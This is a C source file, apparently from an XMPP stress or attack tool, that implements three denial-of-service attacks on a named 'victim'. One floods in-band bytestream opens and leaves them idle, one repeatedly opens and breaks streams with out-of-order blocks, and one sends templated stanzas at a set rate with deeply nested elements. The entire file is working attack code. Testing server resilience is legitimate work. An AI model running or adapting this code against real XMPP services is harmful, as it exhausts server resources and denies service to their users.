/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * The attacks of anybody who has a JID and no key: in-band bytestreams that are opened and
 * not used, and stanzas of any form, at any rate.
 *
 * open: each JID opens --each bytestreams at a time, and sends nothing on them. With
 * --block N it sends a ClientHello of TLS, and does not acknowledge the blocks that come
 * back.
 * break: each JID opens --each bytestreams, breaks each at once by a block out of order,
 * and opens another one. It does not answer the close.
 * say: sends the argument, filled in, at the rate, from one JID after the other. %t is the
 * victim, %f the full JID that sends, %n a number that rises, %i an id of --length digits,
 * %d --depth nested elements.
 */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "alloc.h"
#include "attack.h"
#include "base64.h"
#include "tls.h"

#define NS_IBB "http://jabber.org/protocol/ibb"

enum { BLOCK = 5700, REOPEN = 1000, UNSENT_MAX = 256 * 1024 };

static unsigned number;

/* The attack "open". */

static void put_open(struct attack *a, struct who *who)
{
	number++;
	buf_printf(&who->stream->out,
		   "<iq type='set' id='open%06x' from='%s' to='%s'><open xmlns='" NS_IBB "' "
		   "sid='%06x' block-size='%u' stanza='iq'/></iq>",
		   number, who->full, a->victim, number, a->block);
}

static void put_block(struct attack *a, struct who *who, const char *sid, unsigned seq,
		      const void *data, size_t n)
{
	char *text = xmalloc(BASE64_SIZE(n));

	base64_encode(data, n, text);
	buf_printf(&who->stream->out,
		   "<iq type='set' id='data%s%u' from='%s' to='%s'><data xmlns='" NS_IBB "' "
		   "sid='%s' seq='%u'>%s</data></iq>",
		   sid, seq, who->full, a->victim, sid, seq, text);
	free(text);
}

/* Sends a ClientHello of TLS, in blocks of the agreed size. */
static void say_hello(struct attack *a, struct who *who, const char *sid)
{
	struct device_key *key = device_key_generate();
	struct buf hello = { 0 };
	struct tls *tls = tls_create(key, true, NULL, &hello);

	for (unsigned seq = 0; buf_len(&hello); seq++) {
		size_t n = buf_len(&hello) < a->block ? buf_len(&hello) : a->block;

		put_block(a, who, sid, seq, buf_data(&hello), n);
		buf_consume(&hello, n);
	}
	tls_destroy(tls);
	device_key_destroy(key);
	buf_finish(&hello);
}

/* The sid of the bytestream whose open this stanza answers; false if it answers none. */
static bool open_answered(struct attack *a, const char *stanza, char sid[16], bool *served)
{
	char id[16], type[16];

	if (strncmp(stanza, "<iq", 3) || !stanza_attribute(stanza, "id", id, sizeof(id)) ||
	    strncmp(id, "open", 4) || !stanza_attribute(stanza, "type", type, sizeof(type)))
		return false;
	strcpy(sid, id + 4);
	*served = !strcmp(type, "result");
	if (*served)
		a->done++;
	else
		a->refused++;
	return true;
}

static void open_step(struct attack *a, uint64_t now)
{
	attack_ready_if(a, a->done + a->refused >= a->n * a->each, now);
	for (size_t i = 0; i < a->n; i++) {
		struct who *who = &a->who[i];

		if (now < who->next || buf_len(&who->stream->out) > UNSENT_MAX)
			continue;
		/*
		 * The JIDs take turns, so that a place that becomes free does not stay free
		 * for long.
		 */
		who->next = (who->next ? who->next : now + i * REOPEN / a->n) + REOPEN;
		for (unsigned n = 0; n < a->each; n++)
			put_open(a, who);
	}
}

static void open_take(struct attack *a, struct who *who, const char *stanza)
{
	char sid[16];
	bool served;

	if (!open_answered(a, stanza, sid, &served))
		return;
	if (served) {
		if (!who->own)
			who->own = xcalloc(1, sizeof(struct buf));
		buf_printf(who->own,
			   "<iq type='set' id='close' from='%s' to='%s'><close xmlns='" NS_IBB "' "
			   "sid='%s'/></iq>",
			   who->full, a->victim, sid);
		if (a->block != BLOCK)
			say_hello(a, who, sid);
	}
}

/*
 * Closes the bytestreams, so that the next attack does not find their places taken until a
 * time-out.
 */
static void open_end(struct who *who)
{
	struct buf *closes = who->own;

	if (!closes)
		return;
	buf_append(&who->stream->out, buf_data(closes), buf_len(closes));
	buf_finish(closes);
	free(closes);
}

const struct attack_kind attack_open = {
	.name = "open",
	.usage = "open    [--each N] [--block N]",
	.step = open_step,
	.take = open_take,
	.end = open_end,
};

/* The attack "break". */

static void break_step(struct attack *a, uint64_t now)
{
	attack_ready_if(a, a->done + a->refused >= a->count, now);
	for (size_t i = 0; i < a->n; i++) {
		struct who *who = &a->who[i];

		if (now < who->next)
			continue;
		/* In case an open is refused, or gets no answer at all. */
		who->next = now + 1000;
		for (unsigned n = 0; n < a->each; n++)
			put_open(a, who);
	}
}

static void break_take(struct attack *a, struct who *who, const char *stanza)
{
	char sid[16];
	bool served;

	if (!open_answered(a, stanza, sid, &served))
		return;
	if (served) {
		put_block(a, who, sid, 9, "x", 1);
		put_open(a, who);
	}
}

const struct attack_kind attack_break = {
	.name = "break",
	.usage = "break   [--each N] [--count N]    ready after so many",
	.step = break_step,
	.take = break_take,
};

/* The attack "say". */

static void put_many(struct buf *out, const char *text, unsigned n)
{
	while (n--)
		buf_puts(out, text);
}

static void fill_in(struct attack *a, const struct who *who, const char *text)
{
	struct buf *out = &who->stream->out;

	for (; *text; text++) {
		if (*text != '%') {
			buf_append(out, text, 1);
			continue;
		}
		switch (*++text) {
		case 't':
			buf_puts(out, a->victim);
			break;
		case 'f':
			buf_puts(out, who->full);
			break;
		case 'n':
			buf_printf(out, "%u", number);
			break;
		case 'i':
			buf_printf(out, "%0*u", (int)a->length, number);
			break;
		case 'd':
			put_many(out, "<x>", a->depth);
			put_many(out, "</x>", a->depth);
			break;
		default:
			return;
		}
	}
}

static void say_step(struct attack *a, uint64_t now)
{
	static size_t turn;

	for (unsigned n = 0; n < 1000 && a->n_args; n++) {
		struct who *who = &a->who[turn % a->n];

		if (!attack_may(a, who, now))
			break;
		number++;
		for (int i = 0; i < a->n_args; i++)
			fill_in(a, who, a->args[i]);
		turn++;
	}
	if (turn >= a->count)
		attack_ready_if(a, true, now);
}

/* Counts the answers by their type. */
static void say_take(struct attack *a, struct who *who, const char *stanza)
{
	char type[16];

	if (strncmp(stanza, "<iq", 3) || !stanza_attribute(stanza, "type", type, sizeof(type)))
		return;
	if (!strcmp(type, "result"))
		a->done++;
	else if (!strcmp(type, "error"))
		a->refused++;
}

const struct attack_kind attack_say = {
	.name = "say",
	.usage = "say     [--rate N] [--length N] [--depth N] [--count N] <stanza>...    ready "
		 "after so many",
	.step = say_step,
	.take = say_take,
};
